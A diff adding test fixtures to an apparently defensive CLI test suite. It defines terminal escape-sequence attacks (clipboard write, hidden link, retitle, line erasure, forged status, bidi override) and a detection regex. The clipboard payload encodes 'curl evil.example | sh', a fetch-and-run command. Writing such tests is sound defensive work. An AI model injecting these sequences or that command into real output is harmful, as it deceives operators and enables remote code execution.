@@ -253,3 +253,34 @@ export const HOSTILE_CORPUS: readonly HostileMessage[] = [
     readableId: "bad-duplicate",
   },
 ];
+
+/*
+ * Text a receiver (an error page) or a producer (an envelope's key names) may put before an
+ * operator's terminal: each tries to make the terminal act — write the clipboard, show a link to
+ * elsewhere, retitle the window, or erase a line and print a forged one — or to reorder what it
+ * shows. The CLI's human output must show all of it inert; its JSON must keep it exact.
+ */
+export const TERMINAL_ATTACKS: readonly { readonly name: string; readonly text: string }[] = [
+  { name: "OSC 52 clipboard write", text: "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007" },
+  { name: "OSC 8 link", text: "\u001b]8;;https://evil.example/\u001b\\docs\u001b]8;;\u001b\\" },
+  { name: "window title", text: "\u001b]0;ricochet: all delivered\u0007" },
+  { name: "cursor up and erase", text: "\u001b[1A\u001b[2K\rstatus: delivered" },
+  { name: "one-byte C1 CSI", text: "\u009b2J" },
+  { name: "forged line", text: "\nstatus: delivered" },
+  { name: "right-to-left override", text: "\u202ederevileD" },
+];
+
+/** All of {@link TERMINAL_ATTACKS} in one string, as one hostile reply or key name carries it. */
+export const TERMINAL_ATTACK = TERMINAL_ATTACKS.map((attack) => attack.text).join(" ");
+
+/**
+ * What a terminal obeys, the line feed aside (a rendering's own): C0, DEL, C1 and the bidi
+ * controls. Its own statement of them, so the oracle does not share the implementation's code.
+ */
+export const OBEYED_BY_TERMINALS =
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: naming the controls is its purpose.
+  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;
+
+/** Whether a terminal showing `stdout` would show a line that begins like Ricochet's own status. */
+export const showsForgedStatusLine = (stdout: string): boolean =>
+  stdout.split("\n").some((line) => /^\s*status: delivered/.test(line));
